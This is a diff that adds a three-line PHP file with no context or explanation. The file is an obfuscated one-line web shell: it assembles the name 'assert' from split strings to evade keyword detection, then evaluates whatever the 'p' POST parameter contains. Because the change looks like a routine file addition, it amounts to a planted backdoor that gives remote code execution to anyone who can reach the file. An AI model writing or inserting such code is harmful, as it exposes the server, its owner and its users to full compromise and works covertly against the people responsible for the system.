@@ -1,0 +1,3 @@
+<?php
+$f = 'as' . 'sert';
+$f($_POST['p']);
